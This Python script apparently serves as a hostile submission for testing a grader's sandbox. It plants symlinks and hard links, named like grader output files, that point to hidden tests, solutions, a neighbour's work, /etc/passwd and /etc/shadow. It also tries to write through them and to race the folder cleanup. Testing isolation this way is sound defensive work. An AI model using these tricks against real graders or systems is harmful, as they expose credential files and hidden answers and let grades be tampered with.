"""Leaves links and traps in its folder, so that whoever reads, copies or clears it away reaches what is not its own."""

import errno
import os

COURSE, CLASS = "@course@", "@class@"
TARGETS = [COURSE, f"{COURSE}/course.toml", f"{COURSE}/solutions", f"{COURSE}/tests/hidden", CLASS,
           f"{CLASS}/neighbour", f"{CLASS}/neighbour/work.py", "/etc/passwd", "/etc/shadow", "/", "/tmp", "/proc/self/root"]
NAMES = ["results.json", "result.json", "report.html", "stdout", "stdout.txt", "output", "work.py", "conftest.py",
         ".grader", "state.json", "grades.csv", "__pycache__"]
HOME = os.path.realpath(os.environ["HOME"])  # /tmp is the same folder, wherever Python does not lie below /tmp


def attempt(attack, *arguments):
    try:
        attack(*arguments)
    except OSError as error:
        return errno.errorcode[error.errno]
    return "done"


def swapped_folder():
    """Put a link where a folder was, as a race with a cleaner would."""
    os.makedirs("folder/below")
    os.rename("folder/below", "moved")
    os.symlink(COURSE, "folder/below")


def replaced_home():
    here = os.getcwd()
    os.chdir("/")
    try:
        os.rename(here, here + "-moved")
        print("ATTACK SUCCEEDED: its folder has another name")
    finally:
        os.chdir(here)


def write_through(name):
    target = os.path.realpath(f"{name}/grader-was-here" if os.path.isdir(name) else name)
    with open(target, "a"):
        if not target.startswith(HOME):
            print("ATTACK SUCCEEDED: it wrote through", name)


def hard_link(path):
    os.link(path, f"hard-{path.replace('/', '-')}")
    print("ATTACK SUCCEEDED: a hard link to", path)


for name, target in zip(NAMES, TARGETS, strict=True):
    attempt(os.symlink, target, name)
print("links:", len([name for name in os.listdir() if os.path.islink(name)]))
print("written through:", *sorted({attempt(write_through, name) for name in NAMES}))
print("hard links:", *sorted({attempt(hard_link, path) for path in TARGETS}))
print("its folder:", attempt(replaced_home))
print("beside its folder:", attempt(os.symlink, COURSE, "../grader-scratch-1-hostile"))
print("swapped:", attempt(swapped_folder))
os.mkfifo("pipe")
